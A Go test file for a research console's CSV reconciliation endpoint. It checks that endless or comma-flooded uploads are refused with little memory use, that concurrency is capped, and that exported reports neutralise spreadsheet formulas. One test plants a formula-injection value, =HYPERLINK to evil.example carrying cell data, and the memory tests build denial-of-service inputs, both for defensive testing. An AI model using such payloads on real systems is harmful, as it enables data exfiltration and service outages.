package api

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"strings"
	"sync"
	"testing"
	"time"
)

// endless is n bytes of s repeated, made as they are read (the test's own heap stays flat).
type endless struct {
	s    string
	i, n int
}

func (r *endless) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	p = p[:min(len(p), r.n)]
	for k := range p {
		p[k] = r.s[r.i]
		r.i = (r.i + 1) % len(r.s)
	}
	r.n -= len(p)
	return len(p), nil
}

// TestReconcileRefusesHugeListsWhileReading is the attack of issue 20, item 5: one 8 MB
// list of commas took 890 MB and four at once 3.3 GB, because the whole list was parsed
// before its limits were looked at. Now each hostile list is refused fast with a
// message naming the limit (413, or 429 while two others are being read), and the
// server's heap grows by a few MB at most. Four at once: a line of commas (twice), one
// endless line, an endless quoted field.
func TestReconcileRefusesHugeListsWhileReading(t *testing.T) {
	e := newConsoleEnv(t)
	ada := e.as["ada"]
	id := e.spawnOn(t, "prolific")
	attacks := []struct {
		name string
		head string
		fill string
		has  string
	}{
		{"commas", "", ",", "more than 500 columns"},
		{"one huge row", "Participant id\nP1,", "x", "longer than 256 KB"},
		{"an endless quoted field", "Participant id,Note\nP1,\"", "many lines of text\n", "field longer than 64 KB"},
		{"commas again", "Participant id,", ",", "more than 500 columns"},
	}
	send := func(head, fill string, size int) response {
		req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/v1/studies/"+id+"/reconcile",
			io.MultiReader(strings.NewReader(head), &endless{s: fill, n: size}))
		req.Header.Set("Content-Type", "text/csv")
		res, err := ada.Do(req)
		if err != nil {
			return response{status: -1, body: []byte(err.Error())}
		}
		defer res.Body.Close()
		body, _ := io.ReadAll(res.Body)
		return response{status: res.StatusCode, body: body}
	}

	stopWatch := watchHeap(2 * time.Millisecond)
	start := time.Now()
	answers := make([]response, len(attacks))
	var wg sync.WaitGroup
	for i, a := range attacks {
		wg.Add(1)
		go func() {
			defer wg.Done()
			answers[i] = send(a.head, a.fill, 12<<20)
		}()
	}
	wg.Wait()
	took := time.Since(start)
	grew := stopWatch()
	t.Logf("four hostile lists answered in %v; heap in use grew by %d KB", took, grew>>10)
	for i, a := range attacks {
		r := answers[i]
		if r.status == http.StatusTooManyRequests {
			// Two reconciliations run at once; the others are told to wait. Send it alone.
			r = send(a.head, a.fill, 12<<20)
		}
		if r.status != http.StatusRequestEntityTooLarge || !strings.Contains(string(r.body), a.has) || !strings.Contains(string(r.body), `"code":"body_too_large"`) {
			t.Errorf("%s: %d %s", a.name, r.status, r.body)
		}
	}
	if took > 10*time.Second {
		t.Errorf("four hostile lists took %v", took)
	}
	if grew > 8<<20 {
		t.Errorf("heap grew by %d MB reading hostile lists: they are held in memory", grew>>20)
	}
	// A list of short lines past 8 MB is refused once 8 MB are read (what was read within
	// the limit is held until then: the limit, not what was sent).
	long := "P" + strings.Repeat("1", 200) + "\n"
	if r := send("Participant id\n", long, 64<<20); r.status != http.StatusRequestEntityTooLarge || !strings.Contains(string(r.body), "larger than 8 MB") {
		t.Errorf("too many bytes: %d %s", r.status, r.body)
	}
}

// TestReconcileDownloadsNeutraliseFormulas: a participant arriving with
// =HYPERLINK(...) as their Prolific id, reconciled from a list carrying it: the report and
// the approve file hold it with the exports' apostrophe, never as a formula.
func TestReconcileDownloadsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newConsoleEnv(t)
	id := e.spawnOn(t, "prolific")
	const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	if r := e.loadInto(id, "u-evil", map[string]string{"PROLIFIC_PID": evil, "SESSION_ID": "@SUM(1)"}); r.status != 200 {
		t.Fatalf("load: %d %s", r.status, r.body)
	}
	e.finish(t, id, "u-evil")
	q := func(v string) string { return `"` + strings.ReplaceAll(v, `"`, `""`) + `"` }
	list := "Submission id,Participant id,Status,Completion code\n" + fmt.Sprintf("%s,%s,AWAITING REVIEW,C0DE\n", q("+sub"), q(evil))
	r := e.reconcile(e.as["ada"], id, list, "", false)
	lines := reconcileLines(t, r)
	if lines[evil]["class"] != "completed" {
		t.Fatalf("the participant was not matched: %s", r.body)
	}
	for _, key := range []string{"report", "platform_file"} {
		text := data(r)[key].(map[string]any)["csv"].(string)
		recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, rec := range recs[1:] {
			for _, v := range rec {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("%s: %q would run as a formula", key, v)
				}
				found = found || v == "'"+evil
			}
		}
		if !found || !strings.Contains(text, "'+sub") {
			t.Errorf("%s lacks the neutralised values:\n%s", key, text)
		}
	}
}

// TestReconcileRunsTwoAtOnce: while two lists are being read (here two researchers'
// uploads still arriving), a third reconciliation is told to retry (429 with
// retry_after) instead of holding a third list in memory; once they end it runs.
func TestReconcileRunsTwoAtOnce(t *testing.T) {
	e := newConsoleEnv(t)
	ada := e.as["ada"]
	id := e.spawnOn(t, "prolific")
	var held []*io.PipeWriter
	var wg sync.WaitGroup
	// What each held request got, should it end early: a held list that is answered before
	// its body ends holds no slot, and the failure below then says why.
	var endedMu sync.Mutex
	var ended []string
	for range reconcileSlots {
		pr, pw := io.Pipe()
		held = append(held, pw)
		req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/v1/studies/"+id+"/reconcile", pr)
		req.Header.Set("Content-Type", "text/csv")
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := ada.Do(req)
			what := fmt.Sprint(err)
			if err == nil {
				body, _ := io.ReadAll(res.Body)
				res.Body.Close()
				what = fmt.Sprintf("%d %s", res.StatusCode, body)
			}
			endedMu.Lock()
			ended = append(ended, what)
			endedMu.Unlock()
		}()
		pw.Write([]byte("Participant id\n"))
	}
	// Both held lists must hold their slots before the third is sent. Probing while one of
	// them was still on its way let the probe take its slot: the late one was then refused,
	// and its 429 could not leave the server, which first tries to read the rest of an
	// unread body that never ends, so the probe kept finding a free slot (found in CI
	// under load).
	for deadline := time.Now().Add(30 * time.Second); len(e.server.reconciling) < reconcileSlots; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			endedMu.Lock()
			early := fmt.Sprintf("%q", ended)
			endedMu.Unlock()
			for _, pw := range held {
				pw.Close() // so the server's Close at cleanup does not wait on them
			}
			t.Fatalf("the held lists took %d of %d slots in 30 s (answered early: %s)", len(e.server.reconciling), reconcileSlots, early)
		}
	}
	busy := false
	if r := e.reconcile(ada, id, "Participant id\nP1\n", "", false); r.status == http.StatusTooManyRequests {
		if errorCode(r) != codeRateLimited || r.header.Get("Retry-After") == "" {
			t.Errorf("busy answer: %d %v %s", r.status, r.header, r.body)
		}
		busy = true
	}
	if !busy {
		endedMu.Lock()
		t.Errorf("a third reconciliation ran while two lists were being read (held requests answered early: %q)", ended)
		endedMu.Unlock()
	}
	for _, pw := range held {
		pw.Close()
	}
	wg.Wait()
	if r := e.reconcile(ada, id, "Participant id\nP1\n", "", false); r.status != 200 {
		t.Errorf("after the others ended: %d %s", r.status, r.body)
	}
}

// TestRefusedListWithinTheByteLimitIsReadToItsEnd: a list the page sends (under 8 MB, its
// length announced) refused at its first line is still read to its end, so the browser
// uploading it receives the 413 on a connection that stays usable instead of one cut
// under its upload.
func TestRefusedListWithinTheByteLimitIsReadToItsEnd(t *testing.T) {
	t.Parallel()
	e := newConsoleEnv(t)
	ada := e.as["ada"]
	id := e.spawnOn(t, "prolific")
	list := strings.Repeat(",", 600) + "\n" + strings.Repeat("P1234567890\n", 100_000/12*12)
	post := func(body string) (response, bool) {
		reused := false
		trace := &httptrace.ClientTrace{GotConn: func(info httptrace.GotConnInfo) { reused = info.Reused }}
		req, _ := http.NewRequestWithContext(httptrace.WithClientTrace(context.Background(), trace), http.MethodPost,
			e.srv.URL+"/v1/studies/"+id+"/reconcile", strings.NewReader(body))
		req.Header.Set("Content-Type", "text/csv")
		res, err := ada.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return response{status: res.StatusCode, body: b}, reused
	}
	r, _ := post(list)
	if r.status != http.StatusRequestEntityTooLarge || !strings.Contains(string(r.body), "more than 500 columns") {
		t.Fatalf("refused list: %d %s", r.status, r.body)
	}
	if r, reused := post("Participant id\nP1\n"); r.status != 200 || !reused {
		t.Errorf("the next call: %d, on the same connection: %v", r.status, reused)
	}
}
